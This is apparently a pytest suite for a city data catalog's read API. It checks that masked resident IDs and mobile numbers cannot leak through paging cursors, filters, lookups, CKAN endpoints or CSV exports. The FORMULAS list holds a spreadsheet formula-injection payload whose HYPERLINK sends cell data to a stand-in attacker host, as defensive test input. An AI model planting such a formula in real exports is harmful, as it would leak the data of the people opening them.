"""The catalog's read side never gives a caller a value the share rules mask for them: paging cursors
are opaque and sealed, filters, sorts and lookups on a field the caller does not hold in clear are
refused (403 field_masked) in the data API and CKAN alike, exports neutralise formula cells, bad
integers are 400 not 500, and every data-API call that ends in an error is on the audit trail.

The city: 公安局 (gaj) provides a conditionally shared population base with resident IDs and
mobiles; 城管局 (cgj) holds a grant that gives the ID and the mobile masked."""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from cityos.catalog import service
from cityos.catalog.masking import mask_value
from cityos.catalog.schemas import ResourceIn
from cityos.core.audit import AuditRecord
from cityos.identity import service as identity

from .helpers import grant, masked_grant, population, population_rows, steward, token, write_csv

N = 12


@pytest.fixture
def world(db, city, tmp_path: Path):  # type: ignore[no-untyped-def]
    rows = population_rows(N, seed=11)
    _provider, _consumer, code = masked_grant(
        db, tmp_path, rows, ["id_number", "mobile", "division", "household_size"]
    )
    return {
        "code": code,
        "url": code.replace("/", "-"),
        "rows": rows,
        "consumer": token(db, city, "cgj", "data", "城管执法系统"),
        "owner": token(db, city, "gaj", "data", "公安数据平台"),
    }


def _secrets(rows: list[list[str]]) -> list[str]:
    """Every run of 6 digits of an ID or mobile that the consumer's mask hides."""
    out = set()
    for r in rows:
        idn, mobile = r[0], r[4]
        hidden_id, hidden_mobile = idn[1:-2], mobile[3:-4]
        out.update(hidden_id[i : i + 6] for i in range(len(hidden_id) - 5))
        out.add(hidden_mobile)
    return sorted(out)


def _decodings(cursor: str) -> list[str]:
    """What a curious caller would try on a cursor: the text itself and its base64 decodings."""
    out = [cursor]
    for alt in (base64.urlsafe_b64decode, base64.b64decode):
        with contextlib.suppress(ValueError):
            out.append(alt(cursor + "=" * (-len(cursor) % 4)).decode("latin-1"))
    return out


def _audit(db, action_prefix: str = "catalog.data.") -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
    with db.reader() as s:
        recs = s.scalars(
            select(AuditRecord).where(AuditRecord.action.like(action_prefix + "%")).order_by(AuditRecord.seq)
        ).all()
        return [(r.action, r.payload["outcome"]) for r in recs]


# ------------------------------------------------------------------------------------ cursors
def test_paging_one_row_at_a_time_reveals_no_masked_digit(db, world, client) -> None:  # type: ignore[no-untyped-def]
    seen: list[str] = []
    after = None
    secrets = _secrets(world["rows"])
    ids = {r[0] for r in world["rows"]}
    while True:
        params = {"limit": 1, **({"after": after} if after else {})}
        r = client.get(f"/api/v1/data/{world['url']}/rows", params=params, headers=world["consumer"])
        assert r.status_code == 200, r.text
        body = r.json()
        assert set(body["masked"]) == {"id_number", "mobile"}
        row = body["rows"][0]
        seen.append(row["id_number"])
        after = body["next"]
        for text in [r.text, *(_decodings(after) if after else [])]:
            leaked = [s for s in secrets if s in text]
            assert leaked == [], f"a page or cursor shows masked digits: {leaked}"
            assert not any(i in text for i in ids)
        if not after:
            break
    assert sorted(seen) == sorted(mask_value("id", i) for i in ids)  # every row once


def test_a_cursor_is_bound_to_its_listing_and_cannot_be_forged(db, world, client) -> None:  # type: ignore[no-untyped-def]
    url = f"/api/v1/data/{world['url']}/rows"
    h = world["consumer"]
    first = client.get(url, params={"limit": 2}, headers=h).json()["next"]
    assert client.get(url, params={"limit": 2, "after": first}, headers=h).status_code == 200
    ids = sorted(r[0] for r in world["rows"])
    # the old cursor format: base64 of the key values, which let a caller start anywhere
    forged = base64.urlsafe_b64encode(json.dumps([ids[5][:9]]).encode()).decode().rstrip("=")
    flipped = first[:-3] + ("A" if first[-3] != "A" else "B") + first[-2:]
    bad = {
        "forged": {"limit": 2, "after": forged},
        "tampered": {"limit": 2, "after": flipped},
        "truncated": {"limit": 2, "after": first[: len(first) // 2]},
        "other filter": {"limit": 2, "after": first, "division": "eq.371302"},
        "garbage": {"limit": 2, "after": "!!!"},
    }
    for name, params in bad.items():
        r = client.get(url, params=params, headers=h)
        assert r.status_code == 400, (name, r.text)
        assert r.json()["error"]["code"] == "bad_cursor", name
    # a cursor of the provider's own listing (clear values) is no key to the consumer's
    own = client.get(url, params={"limit": 2}, headers=world["owner"]).json()["next"]
    assert own and not any(i in "".join(_decodings(own)) for i in ids)
    assert _audit(db)[-6:] == [("catalog.data.rows", "bad_cursor")] * 5 + [("catalog.data.rows", "ok")]


# ---------------------------------------------------------------------------- masked fields
def test_filters_sorts_and_lookups_on_a_masked_field_are_refused(db, world, client) -> None:  # type: ignore[no-untyped-def]
    url = f"/api/v1/data/{world['url']}"
    h = world["consumer"]
    idn = world["rows"][3][0]
    for flt in (f"eq.{idn}", f"prefix.{idn[:10]}", f"gt.{idn}", f"lt.{idn}", f"in.({idn},{idn})"):
        r = client.get(f"{url}/rows", params={"id_number": flt}, headers=h)
        assert r.status_code == 403, (flt, r.text)
        assert r.json()["error"]["code"] == "field_masked" and r.json()["error"]["field"] == "id_number"
        e = client.get(f"{url}/export.csv", params={"id_number": flt}, headers=h)
        assert e.status_code == 403 and "X-Row-Count" not in e.headers
        assert e.json()["error"]["code"] == "field_masked"
    # a field that is not indexed but masked: masked is the answer, not "not indexed"
    m = client.get(f"{url}/rows", params={"mobile": "eq.138"}, headers=h)
    assert m.status_code == 403 and m.json()["error"]["code"] == "field_masked"
    # a lookup by a masked key is a filter on it
    lk = client.get(f"{url}/rows/{idn}", headers=h)
    assert lk.status_code == 403 and lk.json()["error"]["code"] == "field_masked"
    # a public field in clear still filters
    ok = client.get(f"{url}/rows", params={"division": "eq.371302", "limit": 100}, headers=h)
    assert ok.status_code == 200 and len(ok.json()["rows"]) == N
    # the provider's own steward holds the ID in clear and may filter and look up by it
    own = client.get(f"{url}/rows", params={"id_number": f"eq.{idn}"}, headers=world["owner"])
    assert own.status_code == 200 and [r["id_number"] for r in own.json()["rows"]] == [idn]
    assert client.get(f"{url}/rows/{idn}", headers=world["owner"]).json()["row"]["id_number"] == idn
    pre = client.get(f"{url}/export.csv", params={"id_number": f"prefix.{idn[:12]}"}, headers=world["owner"])
    assert pre.status_code == 200 and int(pre.headers["X-Row-Count"]) >= 1
    outcomes = [o for _a, o in _audit(db)]
    assert outcomes.count("field_masked") == 12


def test_repeated_filters_on_one_field_all_apply(db, world, client) -> None:  # type: ignore[no-untyped-def]
    ids = sorted(r[0] for r in world["rows"])
    r = client.get(
        f"/api/v1/data/{world['url']}/rows",
        params=[("id_number", f"gt.{ids[2]}"), ("id_number", f"lt.{ids[7]}"), ("limit", "100")],
        headers=world["owner"],
    )
    assert r.status_code == 200, r.text
    assert [x["id_number"] for x in r.json()["rows"]] == ids[3:7]
    e = client.get(
        f"/api/v1/data/{world['url']}/export.csv",
        params=[("id_number", f"gte.{ids[2]}"), ("id_number", f"lte.{ids[7]}")],
        headers=world["owner"],
    )
    assert e.headers["X-Row-Count"] == "6"


# --------------------------------------------------------------------------- errors, audit
BIG = "99999999999999999999999"


def test_integers_out_of_range_are_400_and_audited(db, world, client) -> None:  # type: ignore[no-untyped-def]
    url = f"/api/v1/data/{world['url']}"
    h = world["consumer"]
    cases = [
        (f"{url}/rows", {"limit": BIG}),
        (f"{url}/rows", {"limit": "0"}),
        (f"{url}/rows", {"limit": "abc"}),
        (f"{url}/rows", {"version": BIG}),
        (f"{url}/rows", {"version": str(2**63)}),
        (f"{url}/rows/{world['rows'][0][0]}", {"version": BIG}),
        (f"{url}/export.csv", {"version": BIG}),
        (f"{url}/changes", {"since": BIG}),
        (f"{url}/changes", {"since": "0", "version": BIG}),
    ]
    for path, params in cases:
        r = client.get(path, params=params, headers=h)
        assert r.status_code == 400, (path, params, r.status_code, r.text)
        assert r.json()["error"]["code"] == "bad_integer" and r.json()["error"]["field"] in params
    missing = client.get(f"{url}/rows", params={"version": "7"}, headers=h)
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "version_not_found"
    bad = client.get(f"{url}/rows", params={"division": "between.1"}, headers=h)
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "bad_filter"
    assert [o for _a, o in _audit(db)] == ["bad_integer"] * len(cases) + ["version_not_found", "bad_filter"]
    # the catalog's own routes answer 4xx too, never a database overflow
    assert client.get("/api/v1/catalog/resources", params={"offset": BIG}, headers=h).status_code == 422


def test_ckan_offsets_beyond_int64_and_masked_fields(db, city, client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    steward = city.as_role("data_bureau")
    with db.transaction() as s:
        code = population(s, steward, share_type="unconditional", open_type="open")
    service.load(db=db, actor=steward, code=code, path=write_csv(tmp_path / "p.csv", population_rows(5)))
    rid = code.replace("/", "-") + "-csv"
    act = "/api/3/action/datastore_search"
    for name in ("offset", "limit"):
        for value in (str(2**63), BIG, str(2**64 + 5)):
            r = client.get(act, params={"resource_id": rid, name: value})
            assert r.status_code == 409, (name, value, r.text)
            assert r.json()["success"] is False and name in r.json()["error"]
    r = client.get(act, params={"resource_id": rid, "offset": str(2**62)})
    assert r.status_code == 200 and r.json()["result"]["records"] == []
    for name in ("rows", "start", "facet.limit", "facet.mincount"):
        r = client.get("/api/3/action/package_search", params={name: BIG})
        assert r.status_code == 409 and r.json()["success"] is False, (name, r.text)
    r = client.get("/api/3/action/package_search", params={"facet.limit": "x"})
    assert r.status_code == 409
    # fields outside the public ones are not in the CKAN table, whichever parameter names them
    for params in (
        {"filters": json.dumps({"id_number": "1"})},
        {"q": json.dumps({"mobile": "138"})},
        {"sort": "id_number desc"},
        {"fields": "id_number"},
    ):
        r = client.get(act, params={"resource_id": rid, **params})
        assert r.status_code in (403, 409) and r.json()["success"] is False, (params, r.text)
        assert "id_number" not in r.text or "not in table" in r.text or "masked" in r.text
    big_page = client.get("/open/", params={"page": BIG})
    assert big_page.status_code == 400


# ------------------------------------------------------------------------- formula cells
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1+2", "@SUM(A1:A2)", "普通备注"]


def test_exports_neutralise_formula_cells_and_keep_numbers(db, city, client, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    steward = city.as_role("data_bureau")
    schema = {
        "fields": [
            {"name": "no", "title": "编号", "type": "string", "sensitivity": "public"},
            {"name": "note", "title": "备注", "type": "string", "sensitivity": "public"},
            {"name": "amount", "title": "金额", "type": "number", "sensitivity": "public"},
        ],
        "primaryKey": ["no"],
    }
    with db.transaction() as s:
        code = service.create_resource(
            session=s,
            actor=steward,
            data=ResourceIn(
                class_code="101003",
                name="备注测试",
                provider="dsjj",
                share_type="unconditional",
                open_type="open",
                table_schema=schema,
            ),
        ).code
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["no", "note", "amount"])
    for i, f in enumerate(FORMULAS):
        w.writerow([f"n{i}", f, -1.5 - i])
    src = tmp_path / "notes.csv"
    src.write_text(buf.getvalue(), encoding="utf-8")
    service.load(db=db, actor=steward, code=code, path=src)
    h = token(db, city, "dsjj", "data", "大数据平台")
    slugged = code.replace("/", "-")
    for label, resp in (
        ("data API", client.get(f"/api/v1/data/{slugged}/export.csv", headers=h)),
        ("portal", client.get(f"/open/r/{slugged}/download.csv")),
    ):
        assert resp.status_code == 200, (label, resp.text)
        got = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
        assert got[0] == ["no", "note", "amount"]
        notes = {r[0]: r[1] for r in got[1:]}
        assert [notes[f"n{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS[:4]] + [
            "普通备注"
        ]
        amounts = sorted(float(r[2]) for r in got[1:])
        assert amounts == sorted(-1.5 - i for i in range(len(FORMULAS))), label
        assert all(re.fullmatch(r"-\d+(\.\d+)?", r[2]) for r in got[1:]), label  # numbers, not text
    # JSON stays as stored: the neutralising quote is for spreadsheets only
    nd = client.get(f"/api/v1/data/{slugged}/export.ndjson", headers=h)
    assert sorted(json.loads(line)["note"] for line in nd.text.splitlines()) == sorted(FORMULAS)


def test_a_grant_with_the_id_in_clear_may_look_up_by_it(db, city, world, client) -> None:  # type: ignore[no-untyped-def]
    """The rule follows the grant, not the field: swj holds the ID in clear and the mobile masked."""
    swj = steward(db, "swj", "swj-steward2")
    with db.reader() as s:
        provider = identity.principal_for(session=s, username="gaj-steward")
    grant(db, provider, swj, world["code"], fields=["id_number", "mobile"], clear_fields=["id_number"])
    h = token(db, city, "swj", "data", "税务核验系统")
    idn, mobile = world["rows"][5][0], world["rows"][5][4]
    r = client.get(f"/api/v1/data/{world['url']}/rows/{idn}", headers=h)
    assert r.status_code == 200, r.text
    assert r.json()["row"] == {"id_number": idn, "mobile": mask_value("mobile", mobile)}
    f = client.get(f"/api/v1/data/{world['url']}/rows", params={"id_number": f"in.({idn})"}, headers=h)
    assert f.status_code == 200 and f.json()["rows"] == [r.json()["row"]]
    m = client.get(f"/api/v1/data/{world['url']}/rows", params={"mobile": f"eq.{mobile}"}, headers=h)
    assert m.status_code == 403 and m.json()["error"]["code"] == "field_masked"
    d = client.get(f"/api/v1/data/{world['url']}/rows", params={"division": "eq.371302"}, headers=h)
    assert d.status_code == 403 and d.json()["error"]["code"] == "field_not_granted"
